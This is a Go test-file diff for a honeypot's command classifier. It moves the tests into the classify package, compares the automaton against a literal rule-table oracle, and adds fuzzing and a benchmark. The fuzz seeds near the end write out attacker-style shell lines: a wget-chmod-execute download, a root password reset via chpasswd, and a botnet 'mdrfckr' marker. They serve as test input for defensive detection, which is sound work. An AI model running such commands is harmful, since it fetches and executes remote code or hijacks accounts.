@@ -1,14 +1,59 @@
-package live
+package classify
 
 import (
 	"math/rand"
+	"regexp"
 	"strings"
 	"testing"
 
-	"honeynet/internal/classify"
 	"honeynet/internal/session"
 	"honeynet/internal/simulate"
 )
+
+// oracle is the rule table read literally: every Require regex matches,
+// no Exclude regex matches, first rule wins. It shares nothing with the
+// automaton — no literal extraction, no prefilter, no programs.
+func oracle(text string) string {
+next:
+	for _, r := range rules {
+		for _, expr := range r.Require {
+			if !oracleRE(expr).MatchString(text) {
+				continue next
+			}
+		}
+		for _, expr := range r.Exclude {
+			if oracleRE(expr).MatchString(text) {
+				continue next
+			}
+		}
+		return r.Name
+	}
+	return Unknown
+}
+
+var oracleCompiled = map[string]*regexp.Regexp{}
+
+func oracleRE(expr string) *regexp.Regexp {
+	re := oracleCompiled[expr]
+	if re == nil {
+		re = regexp.MustCompile(expr)
+		oracleCompiled[expr] = re
+	}
+	return re
+}
+
+// completeLiterals re-derives, from the Require strings alone, the
+// literals a rule cannot match without: one per regex whose match set
+// is exactly one string.
+func completeLiterals(r Rule) []string {
+	var lits []string
+	for _, expr := range r.Require {
+		if lit, complete := oracleRE(expr).LiteralPrefix(); complete && lit != "" {
+			lits = append(lits, lit)
+		}
+	}
+	return lits
+}
 
 // corpusTexts simulates a corpus and returns the distinct command
 // texts, the classification input population.
@@ -38,12 +83,11 @@ func corpusTexts(t testing.TB, scale float64, seed int64) []string {
 	return texts
 }
 
-// TestStreamingMatchesBatch is the correctness bar: the single-pass
-// streaming classifier must agree byte-for-byte with the batch rule
-// probe over simulated corpora at several sample sizes.
+// TestStreamingMatchesBatch is the correctness bar: the automaton must
+// agree byte-for-byte with the rule table read literally over simulated
+// corpora at several sample sizes.
 func TestStreamingMatchesBatch(t *testing.T) {
-	c := classify.New()
-	m := NewMatcher(c)
+	c := New()
 	for _, tc := range []struct {
 		scale float64
 		seed  int64
@@ -54,10 +98,8 @@ func TestStreamingMatchesBatch(t *testing.T) {
 	} {
 		texts := corpusTexts(t, tc.scale, tc.seed)
 		for _, txt := range texts {
-			want := c.ClassifyUncached(txt)
-			got := m.Classify(txt)
-			if got != want {
-				t.Fatalf("scale=%v: streaming %q != batch %q for %q", tc.scale, got, want, txt)
+			if got, want := c.ClassifyStats(txt, nil), oracle(txt); got != want {
+				t.Fatalf("scale=%v: automaton %q != oracle %q for %q", tc.scale, got, want, txt)
 			}
 		}
 		t.Logf("scale=%v: %d distinct texts agree", tc.scale, len(texts))
@@ -68,8 +110,7 @@ func TestStreamingMatchesBatch(t *testing.T) {
 // simulator never produces: literal fragments, overlapping literals,
 // rule-precedence traps, empty and binary-ish inputs.
 func TestStreamingMatchesBatchAdversarial(t *testing.T) {
-	c := classify.New()
-	m := NewMatcher(c)
+	c := New()
 	cases := []string{
 		"",
 		"mdrfckr",
@@ -87,16 +128,14 @@ func TestStreamingMatchesBatchAdversarial(t *testing.T) {
 		"perl perl dred dred",
 		"max-redirmax",
 	}
-	// Every batch-test vector plus random splices of literals.
-	for _, r := range c.Rules() {
-		cases = append(cases, strings.Join(r.Literals(), " "))
-		cases = append(cases, strings.Join(r.Literals(), ""))
+	// Every rule's literals joined, plus random splices of them.
+	var lits []string
+	for _, r := range rules {
+		rl := completeLiterals(r)
+		cases = append(cases, strings.Join(rl, " "), strings.Join(rl, ""))
+		lits = append(lits, rl...)
 	}
 	rng := rand.New(rand.NewSource(7))
-	var lits []string
-	for _, r := range c.Rules() {
-		lits = append(lits, r.Literals()...)
-	}
 	for i := 0; i < 2000; i++ {
 		n := 1 + rng.Intn(5)
 		var b strings.Builder
@@ -113,8 +152,8 @@ func TestStreamingMatchesBatchAdversarial(t *testing.T) {
 		cases = append(cases, b.String())
 	}
 	for _, txt := range cases {
-		if got, want := m.Classify(txt), c.ClassifyUncached(txt); got != want {
-			t.Fatalf("streaming %q != batch %q for %q", got, want, txt)
+		if got, want := c.ClassifyStats(txt, nil), oracle(txt); got != want {
+			t.Fatalf("automaton %q != oracle %q for %q", got, want, txt)
 		}
 	}
 }
@@ -122,20 +161,19 @@ func TestStreamingMatchesBatchAdversarial(t *testing.T) {
 // TestMatcherStats sanity-checks the work accounting: candidates +
 // skipped covers every rule up to the first match.
 func TestMatcherStats(t *testing.T) {
-	c := classify.New()
-	m := NewMatcher(c)
+	c := New()
 	var st Stats
-	cat := m.ClassifyStats("systemctl status sshd", &st)
-	if cat != classify.Unknown {
+	cat := c.ClassifyStats("systemctl status sshd", &st)
+	if cat != Unknown {
 		t.Fatalf("got %q", cat)
 	}
-	if st.Candidates+st.Skipped != len(c.Rules()) {
-		t.Fatalf("candidates %d + skipped %d != %d rules", st.Candidates, st.Skipped, len(c.Rules()))
+	if st.Candidates+st.Skipped != len(rules) {
+		t.Fatalf("candidates %d + skipped %d != %d rules", st.Candidates, st.Skipped, len(rules))
 	}
 	if st.Skipped == 0 {
 		t.Fatal("automaton should skip most rules on an unknown text")
 	}
-	if m.NumPatterns() == 0 {
+	if c.numPats == 0 {
 		t.Fatal("no literal patterns compiled")
 	}
 }
@@ -176,15 +214,15 @@ func TestNecessaryLits(t *testing.T) {
 
 	// Soundness over the whole rule table and a simulated corpus: a
 	// match without any necessary literal present would break the
-	// streaming prefilter's byte-identity.
+	// automaton prefilter's byte-identity.
 	texts := corpusTexts(t, 50000, 5)
-	c := classify.New()
-	for _, r := range c.Rules() {
-		for _, re := range r.RequireRegexps() {
-			lits := necessaryLits(re.String())
+	for _, r := range rules {
+		for _, expr := range r.Require {
+			lits := necessaryLits(expr)
 			if lits == nil {
 				continue
 			}
+			re := oracleRE(expr)
 			for _, txt := range texts {
 				if !re.MatchString(txt) {
 					continue
@@ -211,7 +249,7 @@ func TestACAutomaton(t *testing.T) {
 	pats := []string{"ab", "abc", "bc", "c", "abca", "aa", "cab", "bcab"}
 	b := newACBuilder()
 	for i, p := range pats {
-		b.add(p, i)
+		b.add(p, int32(i))
 	}
 	ac := b.build()
 	rng := rand.New(rand.NewSource(11))
@@ -232,11 +270,10 @@ func TestACAutomaton(t *testing.T) {
 	}
 }
 
-// FuzzLiveClassify fuzzes streaming-vs-batch agreement on arbitrary
+// FuzzClassify fuzzes automaton-vs-oracle agreement on arbitrary
 // command text.
-func FuzzLiveClassify(f *testing.F) {
-	c := classify.New()
-	m := NewMatcher(c)
+func FuzzClassify(f *testing.F) {
+	c := New()
 	f.Add("mdrfckr hosts.deny")
 	f.Add(`echo "root:Xy9Zq8Lm2Np4Rs6Tu"|chpasswd`)
 	f.Add("wget http://x/a; chmod +x a; ./a")
@@ -244,8 +281,24 @@ func FuzzLiveClassify(f *testing.F) {
 	f.Add("")
 	f.Add("\x00\xff echo ok")
 	f.Fuzz(func(t *testing.T, text string) {
-		if got, want := m.Classify(text), c.ClassifyUncached(text); got != want {
-			t.Fatalf("streaming %q != batch %q for %q", got, want, text)
+		if got, want := c.ClassifyStats(text, nil), oracle(text); got != want {
+			t.Fatalf("automaton %q != oracle %q for %q", got, want, text)
 		}
 	})
+}
+
+// BenchmarkClassifyStats measures the engine — one automaton scan plus
+// residual regexes, no memo — over the distinct texts of a simulated
+// corpus.
+func BenchmarkClassifyStats(b *testing.B) {
+	texts := corpusTexts(b, 50000, 1)
+	c := New()
+	var bytes int64
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		txt := texts[i%len(texts)]
+		bytes += int64(len(txt))
+		_ = c.ClassifyStats(txt, nil)
+	}
+	b.SetBytes(bytes / int64(b.N))
 }
